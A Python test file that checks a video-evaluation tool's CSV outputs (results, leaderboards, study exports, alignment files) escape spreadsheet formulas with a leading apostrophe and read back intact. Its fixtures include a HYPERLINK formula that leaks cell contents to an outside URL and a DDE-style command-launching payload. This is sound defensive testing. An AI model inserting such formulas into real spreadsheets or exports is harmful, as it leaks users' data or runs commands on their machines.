"""No CSV the project writes holds a cell a spreadsheet would run as a formula (OWASP's CSV
injection: a name starting with = + - @ gets a leading apostrophe), numbers stay numbers, and the
CSVs theval reads back give the names as they were."""
import csv
import io

import numpy as np
import pytest

from theval_mesh.commands.cli import main
from theval_mesh.core import aggregate
from theval_mesh.core.results import OK, VideoResult
from theval_mesh.outputs import results_files
from theval_mesh.pure.csv_cells import FORMULA_STARTS, Writer, from_cell, to_cell
from theval_mesh.pure.metrics.registry import REGISTRY
from theval_mesh.pure.scoring.final_score import leaderboard
from theval_mesh.pure.scoring.tables import read_raw_csv
from theval_mesh.pure.study_plan import Pair
from theval_mesh.stores.study_store import StudyStore
from theval_mesh.studies.alignment_files import read_human, read_scores
from theval_mesh.studies.classic_metrics import ClassicRow, ClassicRun, write_outputs

LINK = '=HYPERLINK("http://example.org/?leak="&A1,"click")'
NAMES = [LINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+33 1 23", "-2+3", "\t=1+1", "\r=1", "'=x", "''@y", "plain"]
MODELS = [n for n in NAMES if n == n.strip()]  # theval reads the cells of a CSV without spaces around


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("@x", "'@x"), ("+x", "'+x"), ("-x", "'-x"), ("\t=x", "'\t=x"), ("\rx", "'\rx"),
    ("'=x", "''=x"),  # an apostrophe of its own is kept: the round trip is exact
    ("-0.5", "-0.5"), ("+1e-3", "+1e-3"), ("-inf", "-inf"), ("nan", "nan"), (-0.5, -0.5), (3, 3),
    ("x=1", "x=1"), ("'plain", "'plain"), ("", ""), ("'", "'"),
])
def test_a_cell_that_would_be_a_formula_gets_an_apostrophe_and_comes_back(value, cell):
    assert to_cell(value) == cell
    if isinstance(value, str):
        assert from_cell(cell) == value


def cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def assert_no_formula(path):
    for cell in cells(path):
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a number may start so (-0.5)


def test_the_files_of_an_evaluation_hold_no_formula_and_read_back(tmp_path):
    rng = np.random.default_rng(0)
    models = ["GT", *MODELS]
    res = [VideoResult(model, f"{video}.mp4", OK, provenance={"profile": "reference"},
                       metrics={m.key: float(v) for m, v in zip(REGISTRY, np.arange(1, 9) * (1 + 0.3 * k)
                                                                 + rng.normal(0, 0.05, 8))})
           for k, model in enumerate(models) for video in NAMES[:2]]
    rows = aggregate.model_rows(res, models)
    board = leaderboard(rows, gt_name="GT")
    paths = results_files.write_all(tmp_path, res, rows, board, {"settings": {}})
    for name in ("results_csv", "raw_metrics", "leaderboard_csv"):
        assert_no_formula(paths[name])
    assert f"'{LINK}.mp4" in cells(paths["results_csv"])
    assert any(c.startswith("-") for c in cells(paths["leaderboard_csv"]))  # negative scores stay numbers
    # theval reads its own files back as they were meant: `theval score --metrics`, `theval align --scores`
    assert [r.model for r in read_raw_csv(paths["raw_metrics"])] == models
    assert set(read_scores(paths["leaderboard_csv"]).columns["Final score"]) == set(MODELS)


def test_the_study_export_holds_no_formula_and_align_reads_it(tmp_path):
    names = MODELS
    store = StudyStore(tmp_path / "study.sqlite")
    for k, (a, b) in enumerate(zip(names, names[1:])):
        pair = Pair(k, a, f"{LINK}.mp4", b, "-1+1.mp4")
        store.show("s", "@rater", pair)
        store.answer("s", "@rater", pair, "left")
    out = tmp_path / "prefs.csv"
    with open(out, "w", newline="", encoding="utf-8") as f:
        assert store.export_csv(f) == len(names) - 1
    store.close()
    assert_no_formula(out)
    assert f"'{LINK}.mp4" in cells(out) and "'@rater" in cells(out)
    assert set(read_human(out).rates) == set(names)


def test_alignment_csv_holds_no_formula(tmp_path, capsys):
    scores = tmp_path / "board.csv"
    with open(scores, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)  # a leaderboard CSV from elsewhere: its column names become alignment.csv rows
        w.writerow(["Model", "Lip sync", LINK])
        w.writerows([m, 0.1 * k, 0.2 * k] for k, m in enumerate("ABCD"))
    human = tmp_path / "rates.csv"
    human.write_text("model,win_rate\n" + "".join(f"{m},{0.1 * k}\n" for k, m in enumerate("ABCD")))
    assert main(["align", "--scores", str(scores), "--human", str(human), "--out", str(tmp_path)]) == 0
    assert_no_formula(tmp_path / "alignment.csv")
    assert f"'{LINK}" in cells(tmp_path / "alignment.csv")


def test_the_classic_files_hold_no_formula(tmp_path):
    run = ClassicRun([ClassicRow("@m", f"{LINK}.mp4", "gt.mp4")], [{"Model": "@m", "x": -0.5}], [])
    videos, summary = write_outputs(run, tmp_path)
    assert_no_formula(videos)
    assert_no_formula(summary)
    assert "'@m" in cells(summary) and "-0.5" in cells(summary)


def test_the_writer_passes_every_cell_through():
    out = io.StringIO()
    Writer(out, lineterminator="\n").writerows([["=1", "-1", 2], ["@a", "b"]])
    assert out.getvalue() == "'=1,-1,2\n'@a,b\n"
